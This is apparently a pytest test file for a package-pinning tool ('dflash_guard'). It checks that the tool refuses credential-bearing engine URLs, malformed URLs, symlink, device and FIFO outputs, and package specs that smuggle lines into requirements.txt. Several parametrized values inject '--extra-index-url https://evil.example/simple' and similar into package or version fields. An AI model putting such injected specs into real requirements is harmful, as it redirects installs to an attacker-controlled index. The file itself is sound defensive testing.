"""Hostile command-line values and outputs (issue 15, items 6, 11, 12, 13): credentials in a
recorded URL, package specs that would inject lines into requirements.txt, outputs that are not
regular files, and the mode outputs are created with."""

from __future__ import annotations

import os
import stat

import pytest

from dflash_guard.errors import InputError, WriteError
from dflash_guard.fileio import write_atomic
from dflash_guard.pins.lockfile import load_lockfile
from dflash_guard.pins.resolve import parse_engine, parse_package
from tests.support.hostile import one_line_error

SHA = "0123456789abcdef0123456789abcdef01234567"
HASH = "a" * 64


# --- item 6: no credentials in a recorded URL ----------------------------------------------------


@pytest.mark.parametrize("url", [
    "https://user:ghp_secret@github.com/vllm-project/vllm.git",
    "https://ghp_secret@github.com/vllm-project/vllm.git",
    "ssh://git:ghp_secret@github.com/vllm-project/vllm.git",
    "user:ghp_secret@github.com:vllm-project/vllm.git",
])
def test_an_engine_url_with_credentials_is_refused_and_never_echoed(cli, local_pair, tmp_path, url):
    out = tmp_path / "dflash.lock"
    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out,
                 "--engine", f"vllm={url}@{SHA}")
    message = one_line_error(result)
    assert "credentials" in message or "password" in message
    assert "ghp_secret" not in message
    assert not out.exists()


def test_an_engine_url_with_a_bad_sha_does_not_echo_its_credentials():
    with pytest.raises(InputError) as caught:
        parse_engine("vllm=https://u:ghp_secret@github.com/v.git@main")
    assert "ghp_secret" not in str(caught.value)


@pytest.mark.parametrize("url", ["https://github.com/vllm-project/vllm.git",
                                 "git@github.com:vllm-project/vllm.git"])
def test_an_engine_url_without_credentials_is_kept(url):
    assert parse_engine(f"vllm={url}@{SHA}").url == url


def test_a_lockfile_engine_url_with_credentials_is_refused(cli, local_pair, tmp_path):
    out = tmp_path / "dflash.lock"
    assert cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out,
               "--engine", f"vllm=https://github.com/v/v.git@{SHA}").exit_code == 0
    out.write_text(out.read_text().replace("https://github.com", "https://u:tok@github.com"))
    with pytest.raises(InputError, match=r"engines\[0\]\.url: the URL carries credentials"):
        load_lockfile(out)


# --- item 13: a URL Python cannot parse ----------------------------------------------------------


def test_an_unclosed_ipv6_engine_url_is_an_input_error(cli, local_pair, tmp_path):
    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter,
                 "-o", tmp_path / "x.lock", "--engine", f"vllm=http://[::1@{SHA}")
    assert "not a valid URL" in one_line_error(result)


# --- item 12: package specs ----------------------------------------------------------------------


@pytest.mark.parametrize("spec", [
    f"six==1.17.0\n--extra-index-url https://evil.example/simple@sha256:{HASH}",
    f"six==1.17.0 --extra-index-url=https://evil.example/simple@sha256:{HASH}",
    f"six==1.17.0; python_version >= '3'@sha256:{HASH}",
    f"six[extra]==1.17.0@sha256:{HASH}",
    f"six\n--index-url x==1.17.0@sha256:{HASH}",
    f"six==1.17.0\n@sha256:{HASH}",
    f"six==https://evil.example/six.whl@sha256:{HASH}",
    f"six==1.*@sha256:{HASH}",
    f"-e==1.0@sha256:{HASH}",
])
def test_a_package_spec_that_is_not_name_and_version_is_refused(spec):
    with pytest.raises(InputError, match="not a (package name|version)"):
        parse_package(spec)


def test_a_valid_package_spec_is_kept():
    package = parse_package(f"Flash_Attn==2.7.4.post1@sha256:{HASH}")
    assert (package.name, package.version, package.sha256) == ("Flash_Attn", "2.7.4.post1",
                                                              (HASH,))


def test_requirements_never_carry_an_injected_line_from_a_lockfile(cli, local_pair, tmp_path):
    out = tmp_path / "dflash.lock"
    assert cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out,
               "--package", f"six==1.17.0@sha256:{HASH}").exit_code == 0
    forged = out.read_text().replace(
        "version: 1.17.0", 'version: "1.17.0\\n--extra-index-url https://evil.example/"')
    assert forged != out.read_text()
    out.write_text(forged)
    result = cli("export", "requirements", "--lock", out)
    assert "is not a version" in one_line_error(result)
    assert "--extra-index-url" not in result.stdout


# --- item 11: outputs ----------------------------------------------------------------------------


def test_lock_refuses_to_replace_a_symlink(cli, local_pair, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    link = tmp_path / "dflash.lock"
    link.symlink_to(victim)
    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", link)
    assert "a symlink" in one_line_error(result)
    assert link.is_symlink() and victim.read_text() == "keep me\n"


def test_lock_refuses_to_replace_a_device(cli, local_pair, tmp_path):
    device = tmp_path / "full"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # /dev/full, made here: root runs
    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter,
                 "-o", device)
    assert "a device" in one_line_error(result)
    assert stat.S_ISCHR(os.lstat(device).st_mode)


def test_write_atomic_refuses_a_fifo_and_a_folder(tmp_path):
    os.mkfifo(tmp_path / "fifo")
    (tmp_path / "folder").mkdir()
    for name in ("fifo", "folder"):
        with pytest.raises(WriteError, match="refusing to replace"):
            write_atomic(tmp_path / name, "x")
    assert (tmp_path / "fifo").is_fifo() and (tmp_path / "folder").is_dir()


def test_a_new_output_gets_the_umask_mode_and_an_old_one_keeps_its_mode(tmp_path):
    old = os.umask(0o027)
    try:
        write_atomic(tmp_path / "new.txt", "x")
    finally:
        os.umask(old)
    assert stat.S_IMODE(os.stat(tmp_path / "new.txt").st_mode) == 0o640
    existing = tmp_path / "existing.txt"
    existing.write_text("old")
    existing.chmod(0o664)
    write_atomic(existing, "new")
    assert stat.S_IMODE(existing.stat().st_mode) == 0o664 and existing.read_text() == "new"


def test_a_failed_write_is_one_line(cli, local_pair, tmp_path, monkeypatch):
    def no_space(fd):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", no_space)
    out = tmp_path / "dflash.lock"
    result = cli("lock", "--target", local_pair.target, "--drafter", local_pair.drafter, "-o", out)
    assert "No space left on device" in one_line_error(result)
    assert not out.exists() and not list(tmp_path.glob(".dflash.lock.*"))
